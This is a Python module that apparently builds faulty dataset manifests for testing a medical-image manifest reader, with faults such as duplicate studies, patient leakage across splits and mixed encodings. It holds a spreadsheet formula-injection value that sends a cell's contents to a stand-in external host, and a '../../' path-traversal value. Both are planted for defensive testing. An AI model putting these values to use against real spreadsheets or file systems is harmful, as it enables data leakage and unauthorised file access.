"""Faults of the manifest: harmful cells and contradictory rows."""

from __future__ import annotations

from collections import Counter
from collections.abc import Mapping

from admin.twin.faults.faulty_site import Fault, FaultySite, Row, planted_once

FORMULA = '=HYPERLINK("https://example.org/?"&A2,"view")'


def formula_cell(site: FaultySite, row: Row) -> None:
    """Write a formula into a cell; a spreadsheet would run it."""
    row["view"] = FORMULA


def path_outside(site: FaultySite, row: Row) -> None:
    """Write a path that leaves the data root."""
    row["image"] = f"../../{row['image']}"


def windows_path(site: FaultySite, row: Row) -> None:
    """Write the image's path as a Windows computer has it."""
    row["image"] = f"D:\\export\\{row['image']}".replace("/", "\\")


def path_in_capitals(site: FaultySite, row: Row) -> None:
    """Write the ending of the image's path in capitals."""
    name, point, ending = row["image"].rpartition(".")
    row["image"] = f"{name}{point}{ending.upper()}"


def respelt_patient(site: FaultySite) -> tuple[str, ...]:
    """Give a study the patient of another study, in capitals and with a dash."""
    row, other = site.take(), site.take()
    row["patient_id"] = f"{other['patient_id'].upper()}-"
    return (row["study_id"],)


def contradicted_view(site: FaultySite, row: Row) -> None:
    """Declare a lateral view in the manifest, although header and picture are frontal."""
    row["view"] = "LL"


def unlabelled(site: FaultySite, row: Row) -> None:
    """Remove the labels of one study."""
    row["labels"] = ""


def tiny_validation(site: FaultySite) -> tuple[str, ...]:
    """Leave one sound study in the validation split, the only one of its patient; move the others to training."""
    counts = Counter(row["patient_id"] for row in site.rows)
    kept = site.take(lambda row: counts[row["patient_id"]] == 1)
    for row in site.rows:
        if row["split"] == "valid":
            row["split"] = "train"
    kept["split"] = "valid"
    return (kept["study_id"],)


def duplicate_study(site: FaultySite) -> tuple[str, ...]:
    """Give a study the identifier of another study."""
    first, second = site.take(), site.take()
    second["study_id"] = first["study_id"]
    return (first["study_id"],)


def patient_in_two_splits(site: FaultySite) -> tuple[str, ...]:
    """Put one patient into both the training and the test split."""
    row = site.take(lambda other: other["split"] == "train")
    other = site.take(lambda other: other["split"] == "train")
    row["patient_id"], row["split"] = other["patient_id"], "test"
    return (row["study_id"],)


def missing_patient(site: FaultySite, row: Row) -> None:
    """Remove the patient identifier of a study."""
    row["patient_id"] = ""


def unknown_split(site: FaultySite, row: Row) -> None:
    """Write an unknown name of a split."""
    row["split"] = "validation"


def latin1_manifest(site: FaultySite, row: Row) -> None:
    """Write an accented letter as UTF-8 and another as Latin-1, so that the file has no single encoding."""
    row["view"] = "PA couché, " + "PA couché".encode("latin-1").decode("utf-8", errors="surrogateescape")


def two_report_columns(site: FaultySite, row: Row) -> None:
    """Add a second report column, which makes the source of the report ambiguous."""
    if "report" not in site.columns:
        site.columns += ("report",)
    row["report"] = "See the file."


MANIFEST_FAULTS: Mapping[str, Fault] = {
    "formula-cell": planted_once(formula_cell),
    "path-outside-root": planted_once(path_outside),
    "contradicted-view": planted_once(contradicted_view),
    "unlabelled": planted_once(unlabelled),
    "tiny-validation-split": tiny_validation,
}
SPELLING_FAULTS: Mapping[str, Fault] = {
    "windows-path": planted_once(windows_path),
    "path-in-capitals": planted_once(path_in_capitals),
    "respelt-patient": respelt_patient,
}
WHOLE_MANIFEST_FAULTS: Mapping[str, Fault] = {
    "duplicate-study": duplicate_study,
    "patient-in-two-splits": patient_in_two_splits,
    "missing-patient": planted_once(missing_patient),
    "unknown-split": planted_once(unknown_split),
    "latin1-manifest": planted_once(latin1_manifest),
    "two-report-columns": planted_once(two_report_columns),
}
"""Faults for which a reader must refuse the whole manifest."""
